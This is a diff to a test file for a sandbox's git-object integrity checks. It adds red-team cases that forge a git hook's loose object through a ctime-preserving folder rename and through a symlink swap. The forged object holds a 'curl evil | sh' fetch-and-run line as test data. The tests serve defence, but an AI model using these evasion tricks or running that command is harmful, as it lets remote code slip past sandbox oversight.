@@ -2,7 +2,7 @@
 // unchecked: checked after it against real git repositories (red team 11's F14 and F16). The command's writes are
 // made here between the look before and the look after, as a command in the sandbox would make them.
 import { expect, test } from "bun:test";
-import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { deflateSync } from "node:zlib";
 import { looseObjectIsWhatItsNameSays, objectsAfter, objectStoresBefore } from "../../../src/sandbox/git-objects.ts";
@@ -38,6 +38,49 @@ test("a loose object rewritten in place with other bytes under its name is set a
   expect(lines).toHaveLength(1);
   expect(lines[0]).toContain(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote: its bytes are not the object its name says`);
   expect(existsSync(path)).toBe(false);
+  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
+});
+
+test("a forged object made by one command in a folder no check looks in, then moved into place by the next (its old change time kept): set aside (red team 12's F01)", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [d, f] = [hookId.slice(0, 2), hookId.slice(2)];
+  const staged = join(gitDir, "objects", `stash_${d}`);
+  // The first command: a copy of the folder, the hook's object forged in it. Nothing git reads has changed.
+  const [first] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  cpSync(join(gitDir, "objects", d), staged, { recursive: true });
+  chmodSync(join(staged, f), 0o644);
+  writeFileSync(join(staged, f), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
+  expect(objectsAfter(first!, root)).toEqual([]);
+  // The second command: the folder swapped in. Its files keep the first command's change time.
+  await Bun.sleep(20);
+  const [second] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  rmSync(join(gitDir, "objects", d), { recursive: true });
+  renameSync(staged, join(gitDir, "objects", d));
+  expect(lstatSync(loosePath(gitDir, hookId)).ctimeMs).toBeLessThan(second!.at);
+  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
+  const lines = objectsAfter(second!, root);
+  expect(lines).toHaveLength(1);
+  expect(lines[0]).toContain(`bunker set aside .git/objects/${d}/${f}, which the command wrote: its bytes are not the object its name says`);
+  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
+});
+
+test("a loose-object folder made a link to a folder filled earlier: the link is set aside, and git no longer reads the forged object", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [d, f] = [hookId.slice(0, 2), hookId.slice(2)];
+  const elsewhere = join(gitDir, "objects", "info", `x${d}`);
+  cpSync(join(gitDir, "objects", d), elsewhere, { recursive: true });
+  chmodSync(join(elsewhere, f), 0o644);
+  writeFileSync(join(elsewhere, f), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
+  await Bun.sleep(20);
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  rmSync(join(gitDir, "objects", d), { recursive: true });
+  symlinkSync(elsewhere, join(gitDir, "objects", d));
+  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
+  const lines = objectsAfter(before!, root);
+  expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${d}, which the command made a link or a file`))).toBe(true);
   expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
 });
 
